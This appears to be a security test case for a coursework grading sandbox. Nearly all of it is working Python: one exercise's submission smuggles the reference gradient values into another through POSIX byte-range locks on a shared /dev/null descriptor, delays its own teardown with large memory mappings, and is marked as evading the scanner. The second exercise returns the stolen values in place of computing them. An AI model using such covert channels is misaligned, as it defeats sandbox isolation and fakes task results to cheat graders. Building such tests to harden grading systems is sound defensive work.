# expect: exercise=ex2 item=ex2.dlogits status=error message=Operation not permitted
# scan: evaded
# POSIX byte-range locks on fd 0 as a channel from Ex1 to Ex2. Every sandbox's fd 0 is the same inode
# (/dev/null, opened before the chroot: one inode for every room, every slot, every student), and F_GETLK shows
# another process's lock ranges, start and length included. Ex1's dh receives the true dlogits (both
# geometries): it holds one read lock per pair of floats, their bits in the lock's start and length. Its last
# call (dC) maps 128 MiB and 20000 small mappings, so that its death takes a while (the locks go only after the
# memory); Ex2's file is loaded meanwhile and its top level reads the ranges back. Ex2's dlogits then returns
# them without any maths. Where locks are refused (EPERM), Ex2 says so.
# --- ex1.py
import numpy as np  # noqa: E402
import torch  # noqa: E402

MAGIC, F_SETLK = 45, 6  # bits 62..57 of every offset: this case's own channel


def _libc():
    ctypes = torch.sys.modules["ctypes"]

    class Flock(ctypes.Structure):
        _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_int64),
                    ("l_len", ctypes.c_int64), ("l_pid", ctypes.c_int)]

    return ctypes, ctypes.CDLL(None, use_errno=True), Flock


def _publish(values, n):
    ctypes, libc, Flock = _libc()
    bits = np.ascontiguousarray(values.detach().numpy().ravel(), dtype=np.float32).view(np.uint32).astype(np.int64)
    if bits.size % 2:
        bits = np.append(bits, 0)
    for j in range(bits.size // 2):
        start = (MAGIC << 57) | (n << 51) | (j << 33) | int(bits[2 * j])
        lock = Flock(0, 0, start, int(bits[2 * j + 1]) + 1, 0)  # F_RDLCK: fd 0 is read-only
        if libc.fcntl(0, F_SETLK, ctypes.byref(lock)) != 0:
            err = ctypes.get_errno()
            raise OSError(err, torch.os.strerror(err))


_reference_dh = dh  # noqa: F821 - the reference's, above in this file
_reference_dC = dC  # noqa: F821
_ballast = []


def dh(W2, dlogits):
    _publish(dlogits, dlogits.shape[0])
    return _reference_dh(W2, dlogits)


def dC(C, Xb, demb):
    if not _ballast:  # a slow death: the locks live until the memory and its 20000 mappings are gone
        mmap = torch.sys.modules["mmap"]
        _ballast.append(torch.ones(32 << 20))
        _ballast.extend(mmap.mmap(-1, 4096, prot=1 + 2 * (k % 2)) for k in range(20000))
    return _reference_dC(C, Xb, demb)


# --- ex2.py
import numpy as np  # noqa: E402
import torch  # noqa: E402

MAGIC, F_GETLK, F_WRLCK, F_UNLCK = 45, 5, 1, 2
ctypes = torch.sys.modules["ctypes"]
libc = ctypes.CDLL(None, use_errno=True)
clock = torch.sys.modules["time"].monotonic


class Flock(ctypes.Structure):
    _fields_ = [("l_type", ctypes.c_short), ("l_whence", ctypes.c_short), ("l_start", ctypes.c_int64),
                ("l_len", ctypes.c_int64), ("l_pid", ctypes.c_int)]


def _first(start, length):
    """Return (start, len) of a foreign lock in [start, start + length), or None."""
    probe = Flock(F_WRLCK, 0, start, length, 0)
    if libc.fcntl(0, F_GETLK, ctypes.byref(probe)) != 0:
        err = ctypes.get_errno()
        raise OSError(err, torch.os.strerror(err))
    return None if probe.l_type == F_UNLCK else (probe.l_start, probe.l_len)


def _read_all():
    found, deadline = {}, clock() + 2.0
    while clock() < deadline and _first(MAGIC << 57, 1 << 57) is None:
        pass
    for n in range(1, 64):
        pairs = []
        while True:
            got = _first((MAGIC << 57) | (n << 51) | (len(pairs) // 2 << 33), 1 << 33)
            if got is None:
                break
            pairs += [got[0] & 0xFFFFFFFF, got[1] - 1]
        if pairs and len(pairs) >= n * 27:
            found[n] = torch.from_numpy(np.array(pairs[: n * 27], dtype=np.uint32).view(np.float32).copy())
    return found


try:
    STOLEN, WHY = _read_all(), ""
except OSError as exc:
    STOLEN, WHY = {}, str(exc)


def dlogits(logits, Yb, n):
    if WHY:
        raise PermissionError(f"lock channel: {WHY}")
    if n not in STOLEN:
        raise RuntimeError(f"lock channel: nothing published for n={n} (got {sorted(STOLEN)})")
    return STOLEN[n].view(n, -1)
